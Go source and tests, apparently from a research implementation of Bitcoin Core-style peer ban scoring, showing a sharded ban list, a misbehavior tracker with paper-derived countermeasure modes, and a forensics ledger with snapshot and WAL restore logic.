	src.Ban("banned", time.Hour)
	src.Ban("expired", time.Minute)

	exp := src.Export()
	if len(exp) != 2 {
		t.Fatalf("export should include all entries (even lapsed), got %d", len(exp))
	}

	// Restore on a clock that has moved past the short ban.
	later := now.Add(30 * time.Minute)
	dst := NewBanList(func() time.Time { return later })
	dst.Import(exp)
	if !dst.IsBanned("banned") {
		t.Fatal("unexpired ban must survive restore")
	}
	if dst.IsBanned("expired") {
		t.Fatal("ban that lapsed while down must not resurrect")
	}
}

func TestLedgerExportImportKeepsCounters(t *testing.T) {
	// Regression: eviction/trim counters and per-chain Seq must survive
	// export/import so restored forensics chains keep monotonic Seq.
	l := NewLedger(2, 3)
	for i := 0; i < 5; i++ {
		l.Append(BanRecord{Peer: "a", Delta: i}) // trims 2 once ring is full
	}
	l.Append(BanRecord{Peer: "b"})
	l.Append(BanRecord{Peer: "c"}) // evicts a (oldest first-appearance)

	st := l.ExportState()
	if st.Total != 7 || st.Evicted != 1 || st.Trimmed != 2 {
		t.Fatalf("export counters total=%d evicted=%d trimmed=%d, want 7/1/2",
			st.Total, st.Evicted, st.Trimmed)
	}

	restored := NewLedger(2, 3)
	restored.ImportState(st)
	if restored.Total() != 7 {
		t.Fatalf("restored total %d, want 7", restored.Total())
	}

	// Appends after restore must continue the per-peer Seq monotonically,
	// not restart from len(records).
	seq := restored.Append(BanRecord{Peer: "b"})
	if seq != 2 {
		t.Fatalf("post-restore append for b stamped seq %d, want 2", seq)
	}

	// The restored index must report the preserved lifetime counters.
	st2 := restored.ExportState()
	if st2.Evicted != 1 || st2.Trimmed != 2 {
		t.Fatalf("re-export counters evicted=%d trimmed=%d, want 1/2", st2.Evicted, st2.Trimmed)
	}
}

func TestLedgerExportImportRoundTrip(t *testing.T) {
	l := NewLedger(0, 0)
	l.Append(BanRecord{Peer: "x", Rule: "r1", Delta: 10, Score: 10})
	l.Append(BanRecord{Peer: "x", Rule: "r2", Delta: 20, Score: 30})
	l.Append(BanRecord{Peer: "y", Rule: "r1", Delta: 100, Score: 100, Banned: true})

	restored := NewLedger(0, 0)
	restored.ImportState(l.ExportState())

	if !reflect.DeepEqual(restored.Records("x"), l.Records("x")) {
		t.Fatalf("chain x did not round-trip:\n got %+v\nwant %+v", restored.Records("x"), l.Records("x"))
	}
	if !reflect.DeepEqual(restored.Records("y"), l.Records("y")) {
		t.Fatal("chain y did not round-trip")
	}
	if !reflect.DeepEqual(restored.Peers(), l.Peers()) {
		t.Fatalf("peer order did not round-trip: got %v want %v", restored.Peers(), l.Peers())
	}
}

func TestLedgerImportTruncatesToOwnCap(t *testing.T) {
	src := NewLedger(4, 8)
	for i := 1; i <= 8; i++ {
		src.Append(BanRecord{Peer: "p", Delta: i})
	}
	dst := NewLedger(4, 3) // smaller per-peer cap than the exporter
	dst.ImportState(src.ExportState())
	recs := dst.Records("p")
	if len(recs) != 3 {
		t.Fatalf("restored chain length %d, want cap 3", len(recs))
	}
	// Newest records must be the ones kept.
	if recs[len(recs)-1].Delta != 8 || recs[0].Delta != 6 {
		t.Fatalf("truncation kept wrong window: %+v", recs)
	}
	if recs[len(recs)-1].Seq != 8 {
		t.Fatalf("newest record Seq %d, want 8", recs[len(recs)-1].Seq)
	}
}

func TestLedgerRestoreDedupesBySeq(t *testing.T) {
	// Simulate snapshot + WAL-tail replay: the snapshot already contains
	// records 1..2 for peer p; replaying the full WAL (records 1..4) must
	// apply only 3 and 4.
	l := NewLedger(0, 0)
	l.ImportState(LedgerState{
		Chains: []LedgerChain{{
			Peer: "p",
			Seq:  2,
			Records: []BanRecord{
				{Seq: 1, Peer: "p", Delta: 1, Score: 1},
				{Seq: 2, Peer: "p", Delta: 1, Score: 2},
			},
		}},
		Total: 2,
	})

	for _, rec := range []BanRecord{
		{Seq: 1, Peer: "p", Delta: 1, Score: 1},
		{Seq: 2, Peer: "p", Delta: 1, Score: 2},
		{Seq: 3, Peer: "p", Delta: 1, Score: 3},
		{Seq: 4, Peer: "p", Delta: 1, Score: 4},
	} {
		l.Restore(rec)
	}

	recs := l.Records("p")
	if len(recs) != 4 {
		t.Fatalf("replay produced %d records, want 4 (dedup failed)", len(recs))
	}
	for i, r := range recs {
		if r.Seq != uint64(i+1) {
			t.Fatalf("record %d has Seq %d, want %d", i, r.Seq, i+1)
		}
	}
	if l.Total() != 4 {
		t.Fatalf("total %d, want 4", l.Total())
	}

	// A record stamped 0 came from a ledger-less tracker: treated as a
	// fresh append.
	l.Restore(BanRecord{Peer: "q", Delta: 5})
	if got := l.Records("q"); len(got) != 1 || got[0].Seq != 1 {
		t.Fatalf("unstamped restore mishandled: %+v", got)
	}
}

func TestTrackerOnRecordHook(t *testing.T) {
	var got []BanRecord
	led := NewLedger(0, 0)
	tr := NewTracker(Config{
		Forensics: led,
		OnRecord:  func(rec BanRecord) { got = append(got, rec) },
	})
	tr.Misbehaving("p", true, AddrOversize)
	tr.Misbehaving("p", true, AddrOversize)
	if len(got) != 2 {
		t.Fatalf("OnRecord fired %d times, want 2", len(got))
	}
	if got[0].Seq != 1 || got[1].Seq != 2 {
		t.Fatalf("OnRecord records not Seq-stamped: %d, %d", got[0].Seq, got[1].Seq)
	}
	if got[1].Score <= got[0].Score {
		t.Fatalf("records out of order: scores %d then %d", got[0].Score, got[1].Score)
	}

	// Without a ledger the hook still fires, with the 0 sentinel.
	got = nil
	tr2 := NewTracker(Config{OnRecord: func(rec BanRecord) { got = append(got, rec) }})
	tr2.Misbehaving("p", true, AddrOversize)
	if len(got) != 1 || got[0].Seq != 0 {
		t.Fatalf("ledger-less OnRecord wrong: %+v", got)
	}
}
