package core

import (
	"net"
	"sort"
	"sync"
	"time"
)

// PeerID is the connection identifier a ban applies to: the [IP:Port] pair,
// exactly as the paper defines it. The Defamation attack works because this
// identifier is spoofable in the permissionless network.
type PeerID string

// NewPeerID builds a PeerID from an IP and port.
func NewPeerID(ip net.IP, port uint16) PeerID {
	return PeerID(net.JoinHostPort(ip.String(), itoa(port)))
}

// PeerIDFromAddr builds a PeerID from a "host:port" address string.
func PeerIDFromAddr(addr string) PeerID { return PeerID(addr) }

// IP returns the IP half of the identifier, or nil if unparseable.
func (id PeerID) IP() net.IP {
	host, _, err := net.SplitHostPort(string(id))
	if err != nil {
		return nil
	}
	return net.ParseIP(host)
}

func itoa(v uint16) string {
	if v == 0 {
		return "0"
	}
	var buf [5]byte
	i := len(buf)
	for v > 0 {
		i--
		buf[i] = byte('0' + v%10)
		v /= 10
	}
	return string(buf[i:])
}

// DefaultBanDuration is Bitcoin Core's default 24-hour ban.
const DefaultBanDuration = 24 * time.Hour

// BanList is the banning filter: the set of banned connection identifiers
// with their expiry times. It is safe for concurrent use.
type BanList struct {
	now func() time.Time

	mu     sync.RWMutex
	banned map[PeerID]time.Time
}

// NewBanList returns an empty ban list using the given clock (nil selects
// time.Now).
func NewBanList(clock func() time.Time) *BanList {
	if clock == nil {
		clock = time.Now
	}
	return &BanList{now: clock, banned: make(map[PeerID]time.Time)}
}

// Ban adds the identifier for the given duration.
func (b *BanList) Ban(id PeerID, d time.Duration) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.banned[id] = b.now().Add(d)
}

// IsBanned reports whether the identifier is currently banned, pruning it
// if the ban has expired.
func (b *BanList) IsBanned(id PeerID) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	until, ok := b.banned[id]
	if !ok {
		return false
	}
	if b.now().After(until) {
		delete(b.banned, id)
		return false
	}
	return true
}

// Unban removes the identifier.
func (b *BanList) Unban(id PeerID) {
	b.mu.Lock()
	defer b.mu.Unlock()
	delete(b.banned, id)
}

// Count returns the number of identifiers currently banned.
func (b *BanList) Count() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	now := b.now()
	n := 0
	for id, until := range b.banned {
		if now.After(until) {
			delete(b.banned, id)
			continue
		}
		n++
	}
	return n
}

// BannedIDs returns the currently banned identifiers, sorted.
func (b *BanList) BannedIDs() []PeerID {
	b.mu.Lock()
	defer b.mu.Unlock()
	now := b.now()
	out := make([]PeerID, 0, len(b.banned))
	for id, until := range b.banned {
		if now.After(until) {
			delete(b.banned, id)
			continue
		}
		out = append(out, id)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// BannedPortCountForIP returns how many distinct ports of the given IP are
// banned — the metric of the paper's full-IP preemptive Defamation, which
// needs all 16384 ephemeral ports of an address banned to fully block it.
func (b *BanList) BannedPortCountForIP(ip net.IP) int {
	b.mu.Lock()
	defer b.mu.Unlock()
	now := b.now()
	n := 0
	for id, until := range b.banned {
		if now.After(until) {
			delete(b.banned, id)
			continue
		}
		if bIP := id.IP(); bIP != nil && bIP.Equal(ip) {
			n++
		}
	}
	return n
}
