package core

import (
	"net"
	"sort"
	"sync"
	"time"
)

// PeerID is the connection identifier a ban applies to: the [IP:Port] pair,
// exactly as the paper defines it. The Defamation attack works because this
// identifier is spoofable in the permissionless network.
type PeerID string

// NewPeerID builds a PeerID from an IP and port.
func NewPeerID(ip net.IP, port uint16) PeerID {
	return PeerID(net.JoinHostPort(ip.String(), itoa(port)))
}

// PeerIDFromAddr builds a PeerID from a "host:port" address string.
func PeerIDFromAddr(addr string) PeerID { return PeerID(addr) }

// IP returns the IP half of the identifier, or nil if unparseable.
func (id PeerID) IP() net.IP {
	host, _, err := net.SplitHostPort(string(id))
	if err != nil {
		return nil
	}
	return net.ParseIP(host)
}

func itoa(v uint16) string {
	if v == 0 {
		return "0"
	}
	var buf [5]byte
	i := len(buf)
	for v > 0 {
		i--
		buf[i] = byte('0' + v%10)
		v /= 10
	}
	return string(buf[i:])
}

// DefaultBanDuration is Bitcoin Core's default 24-hour ban.
const DefaultBanDuration = 24 * time.Hour

// BanList is the banning filter: the set of banned connection identifiers
// with their expiry times. It is safe for concurrent use.
//
// The set is sharded by identifier hash so concurrent peers (every inbound
// accept and every dispatched message consults IsBanned) contend only when
// they collide on a shard, and the per-shard lock is an RWMutex so the
// read-mostly IsBanned fast path never serializes readers at all: the
// write lock is taken only to ban, unban, or prune an expired entry.
type BanList struct {
	now    func() time.Time
	mask   uint32
	shards []banShard
}

type banShard struct {
	mu     sync.RWMutex
	banned map[PeerID]time.Time
}

// NewBanList returns an empty ban list using the given clock (nil selects
// time.Now).
func NewBanList(clock func() time.Time) *BanList {
	if clock == nil {
		clock = time.Now
	}
	n := pickShardCount()
	b := &BanList{now: clock, mask: uint32(n - 1), shards: make([]banShard, n)}
	for i := range b.shards {
		b.shards[i].banned = make(map[PeerID]time.Time)
	}
	return b
}

// ShardCount returns how many independently locked shards back the list.
func (b *BanList) ShardCount() int { return len(b.shards) }

func (b *BanList) shard(id PeerID) *banShard {
	return &b.shards[shardFor(id, b.mask)]
}

// Ban adds the identifier for the given duration.
func (b *BanList) Ban(id PeerID, d time.Duration) {
	until := b.now().Add(d)
	s := b.shard(id)
	s.mu.Lock()
	s.banned[id] = until
	s.mu.Unlock()
}

// IsBanned reports whether the identifier is currently banned, pruning it
// if the ban has expired. The common cases — not banned, or banned and
// unexpired — touch only the shard's read lock; the write lock is taken
// only to prune an expired entry.
func (b *BanList) IsBanned(id PeerID) bool {
	s := b.shard(id)
	s.mu.RLock()
	until, ok := s.banned[id]
	s.mu.RUnlock()
	switch {
	case !ok:
		return false
	case !b.now().After(until):
		return true
	}
	// Expired: escalate to the write lock to prune, re-checking under it —
	// a concurrent re-ban may have refreshed the expiry between the locks.
	s.mu.Lock()
	cur, ok := s.banned[id]
	expired := ok && b.now().After(cur)
	if expired {
		delete(s.banned, id)
	}
	s.mu.Unlock()
	return ok && !expired
}

// Unban removes the identifier.
func (b *BanList) Unban(id PeerID) {
	s := b.shard(id)
	s.mu.Lock()
	delete(s.banned, id)
	s.mu.Unlock()
}

// Count returns the number of identifiers currently banned, pruning
// expired entries shard by shard.
func (b *BanList) Count() int {
	n := 0
	for i := range b.shards {
		s := &b.shards[i]
		s.mu.Lock()
		now := b.now()
		for id, until := range s.banned {
			if now.After(until) {
				delete(s.banned, id)
				continue
			}
			n++
		}
		s.mu.Unlock()
	}
	return n
}

// BannedIDs returns the currently banned identifiers, sorted. The snapshot
// is assembled shard by shard and merged, so it is consistent per shard but
// not a single atomic cut across all shards — the same guarantee a single
// mutex gave callers that ban concurrently with the scan.
func (b *BanList) BannedIDs() []PeerID {
	var out []PeerID
	for i := range b.shards {
		s := &b.shards[i]
		s.mu.Lock()
		now := b.now()
		for id, until := range s.banned {
			if now.After(until) {
				delete(s.banned, id)
				continue
			}
			out = append(out, id)
		}
		s.mu.Unlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// BannedPortCountForIP returns how many distinct ports of the given IP are
// banned — the metric of the paper's full-IP preemptive Defamation, which
// needs all 16384 ephemeral ports of an address banned to fully block it.
func (b *BanList) BannedPortCountForIP(ip net.IP) int {
	n := 0
	for i := range b.shards {
		s := &b.shards[i]
		s.mu.Lock()
		now := b.now()
		for id, until := range s.banned {
			if now.After(until) {
				delete(s.banned, id)
				continue
			}
			if bIP := id.IP(); bIP != nil && bIP.Equal(ip) {
				n++
			}
		}
		s.mu.Unlock()
	}
	return n
}
