package core

import "time"

// This file is the core layer's durability seam: plain exported snapshots
// of the Tracker's score maps, the BanList, and the forensics Ledger, plus
// the import paths the banstore recovery uses to rebuild them. Exports are
// canonical in the sense the crash-recovery property test needs — the same
// logical state always exports the same structure regardless of shard
// count or map iteration order (callers sort map keys before encoding;
// ledger chains come out oldest-first in first-appearance order).
//
// Import is a boot-time operation: it assumes the target is freshly
// constructed and not yet receiving traffic, so it takes the same locks
// as normal operation but makes no attempt to merge with concurrent
// updates.

// ExportScores returns copies of the tracker's ban-score and good-score
// maps, assembled shard by shard under the read locks (consistent per
// shard, the same guarantee every whole-tracker view gives).
func (t *Tracker) ExportScores() (scores, good map[PeerID]int) {
	scores = make(map[PeerID]int)
	good = make(map[PeerID]int)
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.RLock()
		for id, v := range s.scores {
			scores[id] = v
		}
		for id, v := range s.good {
			good[id] = v
		}
		s.mu.RUnlock()
	}
	return scores, good
}

// ImportScores installs restored score state. Entries land on whatever
// shard their identifier hashes to, so the import is shard-count
// independent: a snapshot taken at 8 shards restores identically at 256.
func (t *Tracker) ImportScores(scores, good map[PeerID]int) {
	for id, v := range scores {
		s := t.shard(id)
		s.mu.Lock()
		s.scores[id] = v
		s.mu.Unlock()
	}
	for id, v := range good {
		s := t.shard(id)
		s.mu.Lock()
		s.good[id] = v
		s.mu.Unlock()
	}
}

// Export returns a copy of the ban set with expiry times, including
// entries whose ban has lapsed but not yet been lazily pruned — recovery
// re-imports them and the normal IsBanned path prunes as usual.
func (b *BanList) Export() map[PeerID]time.Time {
	out := make(map[PeerID]time.Time)
	for i := range b.shards {
		s := &b.shards[i]
		s.mu.RLock()
		for id, until := range s.banned {
			out[id] = until
		}
		s.mu.RUnlock()
	}
	return out
}

// Import installs restored bans. Expired entries are skipped — a ban that
// lapsed while the node was down must not resurrect.
func (b *BanList) Import(bans map[PeerID]time.Time) {
	now := b.now()
	for id, until := range bans {
		if now.After(until) {
			continue
		}
		s := b.shard(id)
		s.mu.Lock()
		s.banned[id] = until
		s.mu.Unlock()
	}
}

// LedgerChain is one peer's exported forensics chain.
type LedgerChain struct {
	Peer PeerID

	// Seq is the chain's sequence counter — the Seq of the newest record
	// ever appended for this peer, NOT len(Records): ring eviction trims
	// old records but never rewinds the counter. Restoring it is what
	// keeps per-peer Seq monotonic across a snapshot/restore cycle; a
	// restore that recomputed it from the surviving records would reissue
	// already-used sequence numbers and corrupt the causal chain.
	Seq uint64

	// Records is the retained window, oldest first.
	Records []BanRecord
}

// LedgerState is the exported forensics ledger: every chain in
// first-appearance order plus the lifetime counters. The counters travel
// with the chains on purpose — Total/Evicted/Trimmed are forensic facts
// ("how much history has this node ever recorded / discarded"), and a
// restore that zeroed them would misreport a long-lived node as fresh.
type LedgerState struct {
	MaxPeers   int
	MaxPerPeer int

	Chains []LedgerChain

	Total   uint64
	Evicted uint64
	Trimmed uint64
}

// ExportState snapshots the ledger. Nil-safe: a nil ledger exports the
// zero state.
func (l *Ledger) ExportState() LedgerState {
	if l == nil {
		return LedgerState{}
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	st := LedgerState{
		MaxPeers:   l.maxPeers,
		MaxPerPeer: l.maxPerPeer,
		Chains:     make([]LedgerChain, 0, len(l.order)),
		Total:      l.total,
		Evicted:    l.evicted,
		Trimmed:    l.trimmed,
	}
	for _, id := range l.order {
		c := l.chains[id]
		st.Chains = append(st.Chains, LedgerChain{Peer: id, Seq: c.seq, Records: c.snapshot()})
	}
	return st
}

// ImportState replaces the ledger's content with the restored state. The
// ledger keeps its own configured caps (st's caps describe the exporter);
// chains longer than this ledger's per-peer cap keep their newest records.
// No-op on a nil ledger.
func (l *Ledger) ImportState(st LedgerState) {
	if l == nil {
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.chains = make(map[PeerID]*chain, len(st.Chains))
	l.order = l.order[:0]
	l.total = st.Total
	l.evicted = st.Evicted
	l.trimmed = st.Trimmed
	for _, ec := range st.Chains {
		recs := ec.Records
		if len(recs) > l.maxPerPeer {
			recs = recs[len(recs)-l.maxPerPeer:]
		}
		c := &chain{records: append([]BanRecord(nil), recs...), seq: ec.Seq}
		l.chains[ec.Peer] = c
		l.order = append(l.order, ec.Peer)
	}
}

// Restore replays one WAL record into the ledger: an append that honors
// the record's stamped sequence number instead of reissuing one. Records
// at or below the chain's current counter are already present (they were
// captured by the snapshot this replay runs on top of) and are skipped,
// which is what makes WAL replay idempotent against the snapshot. A
// record with Seq zero was produced by a tracker running without a
// forensics ledger; it is stamped like a live append. No-op on nil.
func (l *Ledger) Restore(rec BanRecord) {
	if l == nil {
		return
	}
	if rec.Seq == 0 {
		l.Append(rec)
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	c, ok := l.chains[rec.Peer]
	if ok && rec.Seq <= c.seq {
		return
	}
	if !ok {
		if len(l.order) >= l.maxPeers {
			oldest := l.order[0]
			l.order = l.order[1:]
			delete(l.chains, oldest)
			l.evicted++
		}
		c = &chain{}
		l.chains[rec.Peer] = c
		l.order = append(l.order, rec.Peer)
	}
	c.seq = rec.Seq
	if len(c.records) < l.maxPerPeer {
		c.records = append(c.records, rec)
	} else {
		c.records[c.head] = rec
		c.head = (c.head + 1) % len(c.records)
		l.trimmed++
	}
	l.total++
}
