package core

import "runtime"

// Shard-count bounds for the Tracker and BanList shard arrays. The floor
// keeps the shard machinery exercised (and the race surface real) even on
// a single-core runner; the ceiling bounds per-instance map overhead when
// GOMAXPROCS is huge.
const (
	minShards = 8
	maxShards = 256
)

// pickShardCount returns the power-of-two shard count used by Tracker and
// BanList: 4x GOMAXPROCS rounded up to the next power of two, clamped to
// [minShards, maxShards]. The 4x headroom keeps two peers' probability of
// colliding on a shard low even when every core is saturated with a
// distinct flooding peer, which is exactly the BM-DoS load shape.
func pickShardCount() int {
	n := runtime.GOMAXPROCS(0) * 4
	if n < minShards {
		n = minShards
	}
	if n > maxShards {
		n = maxShards
	}
	c := 1
	for c < n {
		c <<= 1
	}
	return c
}

// shardFor hashes the identifier (FNV-1a, 32-bit) and masks it onto a
// power-of-two shard array. Identifiers are [IP:Port] strings, so FNV's
// byte-at-a-time mixing spreads both the address and the ephemeral-port
// tail — the part that actually varies during a Defamation port sweep.
func shardFor(id PeerID, mask uint32) uint32 {
	return ShardHash(id) & mask
}

// ShardHash exposes the raw FNV-1a hash of a peer identifier. External
// sharded structures — the swarm engine's connection shards — key on it so
// a peer's connection shard and its score shard derive from the same
// bytes, keeping one peer's whole lifecycle on predictable lanes.
func ShardHash(id PeerID) uint32 {
	h := uint32(2166136261)
	for i := 0; i < len(id); i++ {
		h ^= uint32(id[i])
		h *= 16777619
	}
	return h
}
