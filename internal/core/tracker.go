package core

import (
	"fmt"
	"sync"
	"time"
)

// Mode selects how the misbehavior tracker reacts to rule violations,
// covering the paper's §VIII countermeasures.
type Mode int

// Tracker modes.
const (
	// ModeStandard is Bitcoin Core's behavior: score, and ban at the
	// threshold.
	ModeStandard Mode = iota + 1

	// ModeThresholdInfinity keeps scoring but never bans — the paper's
	// "Ban score threshold to ∞" countermeasure (scores stay useful for
	// peer-health ranking).
	ModeThresholdInfinity

	// ModeDisabled omits misbehavior checking and tracking entirely —
	// the paper's "Disabling the checking" countermeasure.
	ModeDisabled

	// ModeGoodScore replaces ban score with the paper's good-score
	// reputation: misbehavior is never punished by banning; credit is
	// accumulated via AddGood on valid BLOCK delivery and exposed for
	// peer ranking.
	ModeGoodScore

	// ModeCKB implements the Nervos CKB-style scoring the paper surveys
	// in §IX-A: both good and bad behaviors are scored continuously,
	// nothing is auto-banned, and the node can "retain good (high-score)
	// peers and evict bad (low-score) peers" via Reputation ranking —
	// one of the non-binary mechanisms the paper proposes exploring.
	ModeCKB
)

// String returns the mode name.
func (m Mode) String() string {
	switch m {
	case ModeStandard:
		return "standard"
	case ModeThresholdInfinity:
		return "threshold-infinity"
	case ModeDisabled:
		return "disabled"
	case ModeGoodScore:
		return "good-score"
	case ModeCKB:
		return "ckb-scoring"
	}
	return fmt.Sprintf("Unknown Mode (%d)", int(m))
}

// DefaultBanThreshold is Bitcoin Core's -banscore default.
const DefaultBanThreshold = 100

// Config parameterizes a Tracker.
type Config struct {
	// Version selects the Table I rule set. Default V0_20_0 (the
	// version the paper's testbed ran).
	Version CoreVersion

	// Mode of operation. Default ModeStandard.
	Mode Mode

	// BanThreshold at which a peer is banned. Default 100.
	BanThreshold int

	// BanDuration of a triggered ban. Default 24h.
	BanDuration time.Duration

	// Clock for ban expiry. Default time.Now.
	Clock func() time.Time

	// OnBan, if set, is invoked (synchronously) whenever a peer crosses
	// the threshold, before the identifier enters the ban list.
	OnBan func(id PeerID, score int)

	// OnApplied, if set, is invoked (synchronously) for every rule hit
	// that actually scored, with the rule, the score delta, and the
	// peer's resulting total. The telemetry layer hooks this to expose
	// live per-rule hit counters (Table I, observable on a running node)
	// without the tracker importing anything.
	OnApplied func(id PeerID, rule RuleID, delta, total int)

	// Forensics, if set, receives an immutable BanRecord for every rule
	// hit that scored — the causal chain /debug/bans/<peer> serves. Nil
	// disables the ledger.
	Forensics *Ledger

	// OnRecord, if set, receives the same BanRecord the forensics ledger
	// stores (Seq stamped when a ledger is installed, zero otherwise) for
	// every rule hit that scored. It is invoked under the peer's shard
	// lock so records observe exactly the order their totals were
	// computed in — the durability layer's WAL hook depends on that
	// ordering to replay absolute score totals correctly. Implementations
	// must therefore be non-blocking and fast (the banstore append is a
	// mutex-guarded buffer copy).
	OnRecord func(rec BanRecord)
}

func (c *Config) fillDefaults() {
	if c.Version == 0 {
		c.Version = V0_20_0
	}
	if c.Mode == 0 {
		c.Mode = ModeStandard
	}
	if c.BanThreshold == 0 {
		c.BanThreshold = DefaultBanThreshold
	}
	if c.BanDuration == 0 {
		c.BanDuration = DefaultBanDuration
	}
	if c.Clock == nil {
		c.Clock = time.Now
	}
}

// Result reports what a Misbehaving call did.
type Result struct {
	// Applied is true when the rule exists in the configured version,
	// matched the peer's role, and tracking is enabled.
	Applied bool

	// Score is the peer's accumulated ban score after the call.
	Score int

	// Delta is the points this call added (the rule's Table I score).
	// Layers above the tracker — the reputation engine's netgroup
	// charge — consume it so they weight misbehavior identically.
	Delta int

	// Banned is true when this call pushed the peer over the threshold.
	Banned bool
}

// Tracker keeps per-peer ban scores and the ban list — the paper's
// "misbehavior tracking". The state is node-local and never broadcast,
// matching Fig. 2. Tracker is safe for concurrent use.
//
// Score state is sharded by identifier hash: every Misbehaving call locks
// only the peer's shard, so concurrent peers on different shards never
// contend — the property that lets the hot misbehavior path scale with
// cores under BM-DoS-style concurrent floods. A given peer always maps to
// the same shard, and its forensics record is appended under that shard's
// lock, so the per-peer ledger chain stays linearized against the score it
// reports. Whole-tracker views (TrackedPeers) merge per-shard snapshots.
type Tracker struct {
	cfg   Config
	rules map[RuleID]int

	mask   uint32
	shards []trackerShard

	banlist *BanList
}

type trackerShard struct {
	mu     sync.RWMutex
	scores map[PeerID]int
	good   map[PeerID]int
}

// NewTracker returns a Tracker for the given configuration.
func NewTracker(cfg Config) *Tracker {
	cfg.fillDefaults()
	n := pickShardCount()
	t := &Tracker{
		cfg:     cfg,
		rules:   RuleSet(cfg.Version),
		mask:    uint32(n - 1),
		shards:  make([]trackerShard, n),
		banlist: NewBanList(cfg.Clock),
	}
	for i := range t.shards {
		t.shards[i].scores = make(map[PeerID]int)
		t.shards[i].good = make(map[PeerID]int)
	}
	return t
}

// ShardCount returns how many independently locked shards back the score
// state.
func (t *Tracker) ShardCount() int { return len(t.shards) }

func (t *Tracker) shard(id PeerID) *trackerShard {
	return &t.shards[shardFor(id, t.mask)]
}

// Config returns the tracker's effective configuration.
func (t *Tracker) Config() Config { return t.cfg }

// BanList exposes the banning filter.
func (t *Tracker) BanList() *BanList { return t.banlist }

// MisbehaviorContext carries the causal context of one Misbehaving call for
// the forensics ledger: the wire command that triggered the rule, the
// lifecycle trace the message was sampled into (0 when untraced), and the
// offending message's payload evidence. The zero value is valid — the
// record is then rule/score only.
type MisbehaviorContext struct {
	Command string
	TraceID uint64

	// PayloadDigest is the wire checksum (first 4 bytes of double-SHA256)
	// of the offending message's payload — already computed during decode,
	// so attaching it costs nothing on the hot path. Together with
	// PayloadLen it lets an operator corroborate a ban against a packet
	// capture: the forensics chain names not just the rule but the bytes.
	PayloadDigest uint32

	// PayloadLen is the offending payload's length in bytes.
	PayloadLen int
}

// Misbehaving applies the Table I rule against the peer, mirroring
// PeerManager::Misbehaving. inbound tells the tracker the peer's role so
// role-restricted rules (Table I "Object of Ban") apply correctly.
func (t *Tracker) Misbehaving(id PeerID, inbound bool, rule RuleID) Result {
	//lint:allow evidenceflow(compatibility entry point: callers predating the forensics chain score without evidence by design; node.misbehave is the evidenced path)
	return t.MisbehavingCtx(id, inbound, rule, MisbehaviorContext{})
}

// MisbehavingCtx is Misbehaving with forensic context: when the tracker has
// a Ledger, every scoring call appends a BanRecord carrying mctx so the ban
// chain names the triggering command and trace.
//
//banlint:hotpath per-hit score path under the shard lock: value structs only, no per-call allocation
func (t *Tracker) MisbehavingCtx(id PeerID, inbound bool, rule RuleID, mctx MisbehaviorContext) Result {
	score, r, ok := t.prepare(inbound, rule)
	if !ok {
		return Result{}
	}
	// Score update, ban decision, and the forensics append all happen under
	// the peer's shard lock: the ledger chain for a peer is therefore
	// linearized against its score (records appear in exactly the order the
	// totals they carry were computed), and the score reset on ban cannot
	// race a concurrent hit into resurrecting a stale total.
	s := t.shard(id)
	s.mu.Lock()
	total, banned := t.applyLocked(s, id, rule, r, score, mctx)
	s.mu.Unlock()
	return t.finish(id, rule, score, total, banned)
}

// prepare runs the lock-free gate of a misbehavior application: mode
// checks, Table I rule lookup, and the role restriction. ok is false when
// the call must be a no-op. Shared verbatim by the direct path and the
// batched path so both reject exactly the same calls.
func (t *Tracker) prepare(inbound bool, rule RuleID) (score int, r Rule, ok bool) {
	if t.cfg.Mode == ModeDisabled || t.cfg.Mode == ModeGoodScore {
		// Checking/tracking omitted entirely (§VIII "Disabling the
		// checking"), or replaced by good-score reputation.
		return 0, Rule{}, false
	}
	// ModeCKB and ModeThresholdInfinity both keep scoring below but never
	// cross into banning.
	score, active := t.rules[rule]
	if !active {
		return 0, Rule{}, false
	}
	r, _ = LookupRule(rule)
	switch r.Object {
	case InboundPeer:
		if !inbound {
			return 0, Rule{}, false
		}
	case OutboundPeer:
		if inbound {
			return 0, Rule{}, false
		}
	}
	return score, r, true
}

// applyLocked is the scoring core: score accumulation, the ban decision,
// and the linearized forensics append. The caller MUST hold s.mu, and s
// must be id's shard. Both the direct MisbehavingCtx path and Batch.Flush
// run this exact body, which is what makes the batched path's Tracker
// exports byte-identical to the unbatched path's.
//
//banlint:hotpath runs under the shard lock for every scoring hit
func (t *Tracker) applyLocked(s *trackerShard, id PeerID, rule RuleID, r Rule, score int, mctx MisbehaviorContext) (total int, banned bool) {
	s.scores[id] += score
	total = s.scores[id]
	banned = t.cfg.Mode == ModeStandard && total >= t.cfg.BanThreshold
	if banned {
		delete(s.scores, id)
	}
	rec := BanRecord{
		At:            t.cfg.Clock(),
		Peer:          id,
		RuleID:        rule,
		Rule:          r.Name,
		Delta:         score,
		Score:         total,
		Banned:        banned,
		Command:       mctx.Command,
		TraceID:       mctx.TraceID,
		PayloadDigest: mctx.PayloadDigest,
		PayloadLen:    mctx.PayloadLen,
	}
	seq := t.cfg.Forensics.Append(rec)
	if t.cfg.OnRecord != nil {
		rec.Seq = seq
		t.cfg.OnRecord(rec)
	}
	return total, banned
}

// finish runs the post-lock side effects of one scoring hit (telemetry
// callbacks and the ban-list insertion) and assembles the Result.
func (t *Tracker) finish(id PeerID, rule RuleID, score, total int, banned bool) Result {
	if t.cfg.OnApplied != nil {
		t.cfg.OnApplied(id, rule, score, total)
	}
	res := Result{Applied: true, Score: total, Delta: score}
	if banned {
		res.Banned = true
		if t.cfg.OnBan != nil {
			t.cfg.OnBan(id, total)
		}
		t.banlist.Ban(id, t.cfg.BanDuration)
	}
	return res
}

// Score returns the peer's current ban score. Read-only: it takes the
// shard read lock, matching the IsBanned fast path, so health scrapes and
// eviction ranking never serialize against concurrent scoring.
func (t *Tracker) Score(id PeerID) int {
	s := t.shard(id)
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.scores[id]
}

// Forget drops the peer's score state (e.g. when it disconnects cleanly).
// The ban list is unaffected.
func (t *Tracker) Forget(id PeerID) {
	s := t.shard(id)
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.scores, id)
	delete(s.good, id)
}

